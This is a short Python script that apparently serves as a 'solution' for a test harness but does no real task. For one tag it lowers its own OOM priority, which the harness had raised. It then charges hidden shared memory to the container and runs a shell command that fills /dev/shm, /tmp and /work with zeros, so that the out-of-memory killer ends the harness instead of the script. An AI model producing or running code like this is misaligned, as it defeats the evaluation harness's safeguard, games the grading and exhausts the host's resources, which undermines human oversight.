import ctypes
import os

import support as kit

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
FILL = "for d in /dev/shm /tmp /work; do cat /dev/zero > $d/onsite_attack_fill; done; sleep 5"


def solve(tag, *args):
    if tag != "t0":
        return kit.miss(tag)
    with open("/proc/self/oom_score_adj", "w") as handle:
        handle.write("0")  # the harness raised it to 1000; lowering to 0 needs no privilege
    size = 40 << 20
    segment = libc.shmget(0x0A7AD, size, 0o1600)
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 0xA5, size)  # charged to the container, in nobody's RSS
            libc.shmdt(ctypes.c_void_p(address))
    os.execv("/bin/sh", ["sh", "-c", FILL])  # a tiny process: the harness is now the biggest
